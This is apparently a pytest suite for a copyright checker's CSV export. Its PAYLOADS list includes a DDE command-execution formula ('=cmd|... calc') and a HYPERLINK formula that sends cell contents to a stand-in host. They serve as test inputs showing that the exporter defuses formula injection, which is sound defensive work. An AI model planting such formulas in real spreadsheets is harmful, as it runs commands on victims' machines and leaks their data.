from __future__ import annotations

import csv
import io
import itertools
from dataclasses import replace

import pytest
from hypothesis import given
from hypothesis import strategies as st

from checker.model import Match, Notice, Verdict
from checker.places import Place
from checker.reports.csv import COLUMNS, TRIGGERS, inert, to_csv
from tests.any_report import any_of
from tests.reports_by_hand import DRAFT, every_status, ferry, match, report

COMMANDS = ("=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1", "\r=1", "＝1", "＋1", "－1", "＠A")
BEFORE = ("", " ", "\u00a0", "\ufeff", "\u200b", "\0", "\x1b", "\u2060\u200f", "\u0301")
NUMBERS = ("start", "end", "words", "similarity", "source_start", "source_end")
PAYLOADS = [before + command for before, command in itertools.product(BEFORE, COMMANDS)]
PAYLOADS += [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.org/?"&A1,"look")',
    "@=1",
    "\n=1",
    "\ud800=1",
]


def table(text: str, delimiter: str = ",") -> list[dict[str, str]]:
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter, strict=delimiter == ","))
    assert tuple(rows[0]) == COLUMNS
    return [dict(zip(COLUMNS, row, strict=True)) for row in rows[1:]]


def test_a_match_is_a_row():
    text = "".join(to_csv([ferry()]))
    assert text.count("\r\n") == 2 and text.endswith("\r\n") and not text.startswith("\ufeff")
    (row,) = table(text)
    start = DRAFT.index("The old")
    wanted = {
        "verdict": "flagged",
        "id": "draft.txt",
        "start": str(start),
        "end": str(DRAFT.index(", we hear")),
        "line": "2",
        "column": "1",
        "page": "",
        "words": "11",
        "kind": "edited",
        "status": "copied",
        "severity": "error",
        "similarity": "0.9",
        "source_id": "mp-1",
        "source_title": "Goats sail",
        "source_holder": "Meridian Press",
        "source_story": "goats",
        "source_version": "lead",
        "source_start": "0",
    }
    assert wanted.items() <= row.items()
    assert row["submitted_text"].startswith("The old boat") and row["source_text"].startswith("The old ferry")


def test_a_row_says_whose_it_is_and_what_the_policy_made_of_it():
    every = every_status()
    rows = table("".join(to_csv([every])))
    assert [row["found"] for row in rows] == ["match"] * len(every.matches) + ["notice"] * 3
    assert [row["status"] for row in rows[:-3]] == [str(found.status) for found in every.matches]
    assert [row["why"] for row in rows[:-3]] == [found.why for found in every.matches]
    wanted = {
        "status": "killed",
        "severity": "error",
        "use": "prose",
        "rule": "killed",
        "holder": "Meridian Press",
        "state": "killed",
        "family": "mp-1",
        "family_members": "5",
        "family_newest": "mp-9",
    }
    assert wanted.items() <= rows[0].items()
    (quoted,) = (row for row in rows if row["status"] == "quoted")
    assert (quoted["use"], quoted["speaker"]) == ("quotation", "the minister for islands")


def test_a_notice_is_a_row():
    row = table("".join(to_csv([every_status()])))[-1]
    wanted = {
        "found": "notice",
        "line": "32",
        "column": "1",
        "kind": "copyright",
        "status": "notice",
        "severity": "error",
        "holder": "Meridian Press",
        "years": "2001",
        "terms": "published broadcast rewritten redistributed",
        "source_id": "",
        "words": "",
    }
    assert wanted.items() <= row.items()
    assert row["submitted_text"].startswith("©MMI The Meridian Press.")


@given(any_of(Match), any_of(Notice))
def test_nothing_that_came_with_a_story_is_a_formula(found, notice):
    for row in table("".join(to_csv([report(DRAFT, [found], notices=(notice,))]))):
        for name, cell in row.items():
            assert not cell.startswith(tuple(TRIGGERS)) or name in NUMBERS, name


def test_no_text_is_lost():
    reports = [
        report("Nothing.", id="clear.txt"),
        report("Cut", id="cut.txt", verdict=Verdict.INCOMPLETE, reasons=("only its beginning was read", "and badly")),
    ]
    clear, cut = table("".join(to_csv(reports)))
    assert (clear["verdict"], clear["id"], clear["start"]) == ("clear", "clear.txt", "")
    assert (cut["verdict"], cut["reasons"]) == ("incomplete", "only its beginning was read; and badly")
    assert len(list(to_csv([]))) == 1


def test_pages_paragraphs_and_time_codes_have_their_columns():
    found = match(DRAFT, 11, 30)
    places = [Place(page=3), Place(part="word/document.xml", paragraph=12), Place(begins="00:01:04.000")]
    reports = [
        report(DRAFT, [replace(found, submitted=replace(found.submitted, places=(place,), label="footer"))])
        for place in places
    ]
    rows = table("".join(to_csv(reports)))
    assert [row["page"] for row in rows] == ["3", "", ""]
    assert [row["paragraph"] for row in rows] == ["", "12", ""]
    assert [row["time_code"] for row in rows] == ["", "", "00:01:04.000"]
    assert {row["line"] for row in rows} == {""}  # these files have no lines
    assert {row["label"] for row in rows} == {"footer"}


def test_lines_are_those_of_the_file():
    found = match("goats aboard", 0, 12)
    found = replace(found, submitted=replace(found.submitted, file=(8, 27)))
    (row,) = table("".join(to_csv([report("goats aboard", [found], original="<p>\n\n<b>goats</b> aboard")])))
    assert (row["line"], row["column"], row["start"]) == ("3", "4", "0")


def test_there_are_enough_payloads():
    assert len(PAYLOADS) > 90


@pytest.mark.parametrize("payload", PAYLOADS, ids=ascii)
def test_no_cell_is_a_formula(payload):
    found = match(DRAFT, 11, 30, source=payload, title=payload, id=payload)
    text = "".join(to_csv([report(DRAFT, [found], id=payload, reasons=(payload,))]))
    text.encode("utf-8")
    (row,) = table(text)
    for name in ("id", "reasons", "source_id", "source_title", "source_text"):
        assert row[name].startswith("'"), name


@pytest.mark.parametrize("payload", PAYLOADS, ids=ascii)
def test_no_cell_is_a_formula_where_semicolons_divide(payload):
    """A spreadsheet set to another country cuts the same bytes at semicolons."""
    for text in (f"a;{payload};b", f'a;"{payload}";b', f"a\n{payload}", f"a|{payload}"):
        written = "".join(to_csv([report(DRAFT, id=text)])).removesuffix("\r\n").split("\r\n", 1)[1]
        assert "\n" not in written and "\r" not in written
        for cell in written.replace("|", ";").split(";"):
            assert cell.lstrip(' "\u200b\u200f\u2060\ufeff\u00a0')[:1] not in tuple(TRIGGERS)


@given(st.text(alphabet=st.sampled_from(TRIGGERS + " \u200b\ufeff\0a;|\"',\n\ud800")))
def test_whatever_stands_in_a_cell(text):
    cell = inert(text)
    cell.encode("utf-8")
    seen = cell.lstrip(" \u200b\ufeff")
    assert seen[:1] not in tuple(TRIGGERS)
    assert not set(cell) & set("\t\r\n\0")
    assert list(csv.reader(io.StringIO(next(itertools.islice(to_csv([report("", id=text)]), 1, 2)), newline="")))


def test_plain_words_stay_what_they_are():
    for text in ("well-known; it - said", "a = b", "O’Hara", "", " ", "5 % - 7 %"):
        assert inert(text) == text
    assert inert("two\nlines") == "two lines"


def test_a_long_text_costs_its_length():
    assert len(inert(";" + " ;" * 500_000)) == 1_000_001
    assert len(inert(";" + " " * 1_000_000)) == 1_000_001
